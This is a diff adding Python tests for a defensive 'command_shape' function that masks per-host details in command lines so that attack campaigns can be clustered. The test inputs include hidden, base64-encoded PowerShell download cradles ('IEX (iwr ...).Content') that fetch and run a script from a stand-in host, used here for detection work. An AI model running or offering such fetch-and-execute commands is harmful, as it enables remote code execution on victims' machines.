@@ -1,0 +1,37 @@
+"""The shape of a command line (analytics.command_shapes): per-host parts masked, what a campaign shares kept."""
+
+from __future__ import annotations
+
+import base64
+
+from analytics.command_shapes import SHAPE_LIMIT, command_shape
+
+
+def _encoded(script: str) -> str:
+    return "powershell.exe -nop -w hidden -enc " + base64.b64encode(script.encode("utf-16le")).decode()
+
+
+def test_an_encoded_cradles_per_host_url_path_is_masked_inside_the_decoded_script():
+    one = command_shape(_encoded("IEX (iwr 'http://cdn.example/i/AbCdEfGh.png').Content"), "ws-0001")
+    two = command_shape(_encoded("IEX (iwr 'http://cdn.example/i/QrStUvWx.png?u=ws-0002').Content"), "ws-0002")
+    assert one == two == "powershell.exe -nop -w hidden -enc <enc: iex (iwr 'http://cdn.example/*.png').content>"
+
+
+def test_the_server_the_extension_and_the_script_stay():
+    lure = command_shape(_encoded("IEX (iwr 'http://cdn.example/i/a.png').Content"))
+    assert lure != command_shape(_encoded("IEX (iwr 'http://intranet.example/i/a.png').Content"))
+    assert lure != command_shape(_encoded("IEX (iwr 'http://cdn.example/i/a.ps1').Content"))
+    assert lure != command_shape(_encoded("Start-Process (iwr 'http://cdn.example/i/a.png').Content"))
+
+
+def test_profiles_host_names_guids_and_random_tokens_are_masked_windows_words_are_not():
+    shape = command_shape(r"C:\Users\alice\AppData\x.exe /host WS-0042 /id {1B4E28BA-2FA1-11D2-883F-0016D3CCA427} "
+                          r"/t k3j9x8q2 /h deadbeef01 /n 123456 C:\Windows\System32\x64\sha256.dll", "ws-0042.corp")
+    assert shape == r"c:\users\*\appdata\x.exe /host * /id * /t * /h * /n * c:\windows\system32\x64\sha256.dll"
+    assert command_shape(r"C:\Users\Public\x.exe") == r"c:\users\public\x.exe"
+
+
+def test_an_undecodable_payload_and_a_huge_line_are_bounded():
+    assert command_shape("powershell -enc AAAAAAAAAAAAAAAAAAAAAAA!") .startswith("powershell -enc")
+    assert len(command_shape("cmd /c echo " + "a " * 10_000)) <= SHAPE_LIMIT
+    assert len(command_shape(_encoded("write-host " + "b " * 10_000))) <= SHAPE_LIMIT
